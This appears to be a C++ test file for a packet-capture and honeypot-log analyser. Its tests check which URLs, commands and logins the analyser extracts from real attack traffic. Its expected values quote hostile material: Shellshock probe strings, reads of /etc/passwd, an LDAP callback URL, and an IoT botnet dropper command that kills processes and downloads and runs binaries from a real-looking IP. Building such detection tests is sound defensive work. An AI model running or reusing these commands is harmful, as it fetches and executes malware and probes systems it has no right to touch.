// Real captures and logs, read where they stand: addresses and commands that people find in them by eye, and no logins that nobody typed.
#include <gtest/gtest.h>

#include <filesystem>
#include <map>
#include <nlohmann/json.hpp>
#include <set>

#include "capture/byte_source.hpp"
#include "capture/compression.hpp"
#include "captured_steps.hpp"
#include "payload/malware_urls.hpp"
#include "payload/stored_text.hpp"
#include "payload/typed.hpp"

namespace nightjar {
namespace {

const std::filesystem::path kCaptures = NIGHTJAR_CAPTURES_DIR;
using Lines = std::vector<std::string>;

Lines urls_in(std::string_view payload) {
  Lines lines;
  for (const Download& download : malware_urls({reinterpret_cast<const std::uint8_t*>(payload.data()), payload.size()}))
    lines.push_back(download.url + (download.cut ? " (cut)" : ""));
  return lines;
}

/// What is found in all conversations of the captures of a folder.
struct Found {
  std::size_t conversations = 0;
  std::set<std::string> urls, commands, logins;
};
Found found_in(const std::string& folder) {
  Found found;
  for (const auto& entry : std::filesystem::directory_iterator(kCaptures / folder)) {
    const std::string extension = entry.path().extension();
    // Frames that do not decode are for others to test.
    if ((extension != ".pcap" && extension != ".pcapng") || entry.path().filename() == "wireshark_samples-test.pcapng") continue;
    for (const Conversation& conversation : test::played(test::steps_of_capture(entry.path()))) {
      ++found.conversations;
      const Typed typed = read_typed(conversation);
      for (const LoginAttempt& login : typed.logins) found.logins.insert(stored_logins({login}));
      for (const std::string& command : typed.commands) found.commands.insert(command);
      for (std::string& url : urls_in(conversation.client)) found.urls.insert(std::move(url));
    }
  }
  return found;
}

TEST(CommandsCaptures, NothingIsFoundInWhatIsHarmless) {
  if (!std::filesystem::exists(kCaptures)) GTEST_SKIP() << "the folder of real captures is not there: " << kCaptures;
  for (const std::string folder : {"general", "format", "iot-malware"}) {
    const Found found = found_in(folder);
    EXPECT_GT(found.conversations, 10u) << folder;
    EXPECT_EQ(found.logins, std::set<std::string>{}) << folder;
    EXPECT_EQ(found.commands, std::set<std::string>{}) << folder;
    EXPECT_EQ(found.urls, std::set<std::string>{}) << folder;
  }
}

TEST(CommandsCaptures, ExploitsHideCommandsAndLogNobodyIn) {
  if (!std::filesystem::exists(kCaptures)) GTEST_SKIP() << "the folder of real captures is not there: " << kCaptures;
  const Found found = found_in("exploit");
  EXPECT_EQ(found.logins, std::set<std::string>{});
  EXPECT_EQ(found.urls, std::set<std::string>{"ldap://172.16.238.11:1389/a"});
  // WebattackRCE.pcap: Nikto's probes, by `strings`.
  const std::set<std::string> commands = {"id", "cat /etc/passwd", "cat /etc/hosts", "echo 93e4r0-CVE-2014-6271: true;echo;echo;",
                                          ">_[$($())] { echo 93e4r0-CVE-2014-6278: true; echo;echo; }"};
  EXPECT_EQ(found.commands, commands);
}

std::string decompressed_file(const std::filesystem::path& path) {
  std::string text;
  auto raw = open_file_source(path);
  if (!raw) return text;
  auto source = decompressed(std::move(*raw), path.string());
  if (!source) return text;
  std::vector<std::uint8_t> block(1 << 20);
  while (const std::size_t size = source->source->read(block.data(), block.size()))
    text.append(block.begin(), block.begin() + static_cast<std::ptrdiff_t>(size));
  return text;
}

TEST(CommandsCaptures, OfFiveThousandRealConnectionsFourLoadSomething) {
  const auto path = kCaptures / "honeypot-logs/honeytrap_5k.json.tar.gz";
  if (!std::filesystem::exists(path)) GTEST_SKIP() << "the log of real connections is not there: " << path;
  const std::string archive = decompressed_file(path);
  constexpr std::size_t kTarHeader = 512, kSizeAt = 124, kSizeDigits = 11;
  ASSERT_GT(archive.size(), kTarHeader);
  const std::size_t size = std::stoull(archive.substr(kSizeAt, kSizeDigits), nullptr, 8);
  const auto log = nlohmann::json::parse(archive.substr(kTarHeader, size));

  std::map<int, Lines> urls;
  std::map<int, Lines> commands;
  std::vector<LoginAttempt> logins;
  std::size_t connections = 0;
  for (const auto& attack : log.at("attacks")) {
    const auto& connection = attack.at("attack_connection");
    const std::string hex = connection.at("payload").at("data_hex");
    Conversation conversation;
    conversation.port = connection.at("local_port");
    for (std::size_t i = 0; i + 1 < hex.size(); i += 2) conversation.client += static_cast<char>(std::stoi(hex.substr(i, 2), nullptr, 16));
    ++connections;
    if (const Lines found = urls_in(conversation.client); !found.empty()) urls[conversation.port] = found;
    const Typed typed = read_typed(conversation);
    logins.insert(logins.end(), typed.logins.begin(), typed.logins.end());
    if (!typed.commands.empty()) commands[conversation.port] = typed.commands;
  }
  EXPECT_EQ(connections, 4'999u);
  // Two requests on port 8081: Authorization: Basic YWRtaW46cGFzcw== (base64 -d).
  EXPECT_EQ(logins, (std::vector<LoginAttempt>{{"admin", "pass", false}, {"admin", "pass", false}}));
  const Lines jaws = {"http://176.65.140.135/efefa7", "http://176.65.140.135/drea4"};
  EXPECT_EQ(urls, (std::map<int, Lines>{{5'501, jaws}, {60'001, jaws}, {45'634, {"http://45.125.66.102/tpnew"}}}));
  const Lines command = {
      "killall -9 arm7;killall -9 arm4;killall -9 arm;killall -9 /bin/sh;killall -9 /bin/sh;killall -9 /z/bin;killall -9 /bin/bash;"
      "cd /tmp;rm arm4 arm7;wget http:/\\/176.65.140.135/efefa7;chmod 777 efefa7;./efefa7 jaws;wget http:/\\/176.65.140.135/drea4;"
      "chmod 777 drea4;./drea4 jaws"};
  EXPECT_EQ(commands, (std::map<int, Lines>{{5'501, command}, {60'001, command}}));
}

}  // namespace
}  // namespace nightjar
